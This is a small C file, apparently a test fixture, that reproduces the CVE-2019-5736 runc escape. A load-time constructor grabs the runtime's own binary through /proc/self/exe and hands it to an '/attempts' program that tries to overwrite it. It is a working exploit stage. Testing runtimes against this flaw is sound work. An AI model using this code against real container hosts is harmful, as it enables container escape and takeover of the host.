// Loaded by the runtime when an image makes it run itself as the step's program (CVE-2019-5736): hands its own file on to a
// program that tries to write to it once nobody executes it any more. What is written is what is there.
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void take_own_file(void) {
  const int file = open("/proc/self/exe", O_RDONLY);
  if (file < 0) _exit(3);
  if (file != 9 && dup2(file, 9) != 9) _exit(4);
  execl("/attempts", "/attempts", "--overwrite", "9", (char*)0);
  _exit(5);
}
